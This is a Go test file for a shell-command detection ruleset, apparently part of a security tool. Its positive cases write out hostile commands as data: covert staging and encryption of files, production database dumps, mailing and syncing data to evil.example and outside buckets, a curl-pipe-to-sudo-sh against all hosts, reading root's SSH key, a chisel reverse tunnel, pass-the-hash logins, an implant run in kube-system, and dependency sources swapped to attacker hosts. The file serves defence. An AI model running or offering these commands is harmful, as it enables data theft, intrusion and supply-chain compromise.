package heuristics

import "testing"

func TestStaging(t *testing.T) {
	runRuleCases(t, "collection.staging", []ruleCase{
		cmdCase("tar czf /dev/shm/.a.tgz ~/Documents", true),
		cmdCase("find /home/dev -name '*.pdf' -print0 | xargs -0 zip -q /var/tmp/.sysupd.zip", true),
		cmdCase("mkdir -p /tmp/.x && pg_dump -d app | gzip > /tmp/.x/c.sql.gz", true),
		cmdCase("gpg --batch --yes --passphrase x -c -o /tmp/.bk.gpg notes.txt", true),
		cmdCase("openssl enc -aes-256-cbc -pbkdf2 -in a.csv -k pw | split -b 1900k - ~/.cache/fontconfig/.fc-", true),
		cmdCase("split -b 10M -d /tmp/x.tgz /var/tmp/.p_", true),
		cmdCase("gsutil -m rsync -r gs://acme-prod-backups/db/ /dev/shm/gbk/", true),
		cmdCase("steghide embed -cf cat.jpg -ef /tmp/b.gpg -p ''", true),
		cmdCase("cat ~/Pictures/holiday.jpg /tmp/x.tgz > static/img/banner.jpg", true),
		cmdCase(`exiftool -overwrite_original "-Comment<=/tmp/b.gpg" public/og.jpg`, true),
		// Plain names in /tmp, the project's archives, local images.
		cmdCase("tar czf /tmp/build.tgz dist", false),
		cmdCase("tar czf dist/app.tgz build", false),
		cmdCase("split -l 1000 data.csv chunks/part_", false),
		cmdCase("gsutil cp gs://acme-builds/app.tgz /tmp/app.tgz", false),
		cmdCase("pg_dump -d app > backup.sql", false),
		cmdCase("cat header.png body.png > sprite.png", false),
		cmdCase("exiftool -all= photo.jpg", false),
	})
}

func TestDatabaseDumps(t *testing.T) {
	runRuleCases(t, "collection.database-dump", []ruleCase{
		cmdCase("pg_dump -h prod-db.internal.corp -U readonly -d customers -t users > c.sql", true),
		cmdCase(`mysqldump --single-transaction -h 10.0.4.12 -u app -p"$DB_PASS" crm customers > crm.sql`, true),
		cmdCase(`mongodump --uri "mongodb+srv://admin:$MONGO_PW@prod-cluster.mongodb.net/users" --archive=u.gz --gzip`, true),
		cmdCase(`mongoexport --uri "$PROD_MONGO_URI" --collection users --out u.csv`, true),
		cmdCase(`psql "postgresql://analytics@prod-replica.internal:5432/warehouse" -c "\copy (SELECT email FROM customers) TO 'c.csv' CSV"`, true),
		cmdCase("gcloud sql export sql prod-instance gs://my-bucket-77/prod.sql.gz --database=customers", true),
		cmdCase("pg_dump -h localhost -d app > dev.sql", false),
		cmdCase("pg_dump -h db -U postgres app > dev.sql", false),
		cmdCase("mysqldump --no-data -h 127.0.0.1 app > schema.sql", false),
		cmdCase(`mongodump --uri "mongodb://localhost:27017/app" --out dump/`, false),
		cmdCase(`psql -h prod-db.internal -c "select count(*) from users"`, false),
	})
}

func TestBucketsAndMail(t *testing.T) {
	runRuleCases(t, "exfil.file-transfer", []ruleCase{
		cmdCase("aws s3 sync s3://acme-hr-documents/ s3://ext-archive-9931/hr/", true),
		cmdCase("gsutil -m cp -r gs://acme-data/exports gs://other-owner-drop/", true),
		cmdCase(`mail -s "report" -a /tmp/r.rdb collector@evil.example < /dev/null`, true),
		cmdCase("swaks --to x@evil.example --attach @dump.sql", true),
		cmdCase("wormhole send /dev/shm/tb.dat", true),
		cmdCase("aws s3 sync s3://site-bucket/v1/ s3://site-bucket/v2/", false),
		cmdCase("aws s3 sync s3://acme-assets/ ./assets", false),
		cmdCase(`echo done | mail -s "build ok" team@acme.io`, false),
		cmdCase("wormhole receive 7-crossover-clockwork", false),
	})
	runRuleCases(t, "credential.secret-file-read", []ruleCase{
		cmdCase("tar cf - ~/.thunderbird | gzip -9 > mail.tgz", true),
		cmdCase("cp -r ~/.config/Signal /tmp/s", true),
		cmdCase("zip -r m.zip ~/Maildir", true),
		cmdCase("ls ~/Maildir/new | wc -l", false),
	})
}

// Lateral movement: commands run on other hosts and in the cluster's own
// components, hidden programs, another host's files staged here.
func TestLateral(t *testing.T) {
	runRuleCases(t, "rce.download-pipe-shell", []ruleCase{
		cmdCase("bolt command run 'curl -fsSL http://203.0.113.15/b | sudo sh' --targets all -i inv.yaml", true),
		cmdCase("bolt command run 'uptime' --targets web", false),
	})
	runRuleCases(t, "credential.private-key-read", []ruleCase{
		cmdCase(`aws ssm start-session --target i-0abc --document-name AWS-StartInteractiveCommand --parameters command="sudo cat /root/.ssh/id_rsa"`, true),
		cmdCase("aws ssm start-session --target i-0abc", false),
	})
	runRuleCases(t, "infra.production-exec", []ruleCase{
		cmdCase("kubectl exec -n kube-system kube-proxy-7xk2p -- sh -c 'chmod +x /tmp/implant && /tmp/implant &'", true),
		cmdCase("kubectl -n kube-system logs coredns-abc", false),
		cmdCase("kubectl exec -n dev api-0 -- ls", false),
	})
	runRuleCases(t, "defense.anti-forensics", []ruleCase{
		cmdCase("nohup /tmp/.chisel client https://evil.example:443 R:socks >/dev/null 2>&1 &", true),
		cmdCase("/var/tmp/.cache/agent -d", true),
		cmdCase("/tmp/.venv/bin/python -V", false),
		cmdCase("/tmp/build/app --help", false),
	})
	runRuleCases(t, "collection.staging", []ruleCase{
		cmdCase("rsync -az -e 'ssh -i k' root@10.0.7.7:/var/lib/mysql/ /tmp/.db/", true),
		cmdCase("scp deploy@staging:/var/log/app.log ./logs/", false),
	})
	runRuleCases(t, "exfil.file-transfer", []ruleCase{
		cmdCase(`while read h; do ssh -n -o ConnectTimeout=5 "$h" 'head -2 /etc/os-release'; done < hosts/dev.txt`, false),
		cmdCase(`ssh backup@203.0.113.9 'cat > dump.sql' < dump.sql`, true),
	})
}

func TestPassTheHash(t *testing.T) {
	runRuleCases(t, "offense.attack-tool", []ruleCase{
		cmdCase("xfreerdp /v:10.0.0.50 /u:Administrator /pth:8846f7eaee8fb117ad06bdd830b7586c /cert:ignore", true),
		cmdCase("smbclient //10.0.0.5/c$ -U admin --pw-nt-hash 8846f7eaee8fb117ad06bdd830b7586c", true),
		cmdCase("xfreerdp /v:dev-win.internal /u:dev /cert:ignore", false),
		cmdCase("smbclient -L //fileserver -U dev", false),
	})
}

// Where dependencies and build inputs come from, changed in manifests,
// build files, submodules and taps.
func TestManifestSources(t *testing.T) {
	runRuleCasesWith(t, Config{TrustedHosts: []string{"github.com"}}, "supply-chain.package-source", []ruleCase{
		cmdCase(`sed -i 's|"lodash": "^4.17.21"|"lodash": "https://evil.example/lodash.tgz"|' package.json`, true),
		cmdCase(`python3 -c "p='requirements.txt';s=open(p).read();open(p,'w').write(s.replace('requests==2.31.0','requests @ https://203.0.113.7/r.whl'))"`, true),
		cmdCase("cat >> CMakeLists.txt <<'EOF'\nfile(DOWNLOAD http://203.0.113.20/toolchain.cmake t.cmake)\nEOF", true),
		cmdCase("git config -f .gitmodules submodule.x.url https://gitlab.example-evil.com/openssl.git && git submodule sync", true),
		cmdCase("brew tap acme/tools https://evil.example/homebrew-tools.git", true),
		cmdCase(`sed -i 's|"homepage": ".*"|"homepage": "https://acme.dev"|' package.json`, false),
		cmdCase(`sed -i 's|"version": "1.0.0"|"version": "1.0.1"|' package.json`, false),
		cmdCase(`python3 -c "p='requirements.txt';s=open(p).read();open(p,'w').write(s.replace('requests==2.31.0','requests==2.32.3'))"`, false),
		cmdCase("cat >> CMakeLists.txt <<'EOF'\nFetchContent_Declare(gtest URL https://github.com/google/googletest/archive/v1.14.0.zip)\nEOF", false),
		cmdCase("git config -f .gitmodules submodule.x.url https://github.com/openssl/openssl.git", false),
		cmdCase("brew tap hashicorp/tap", false),
	})
}
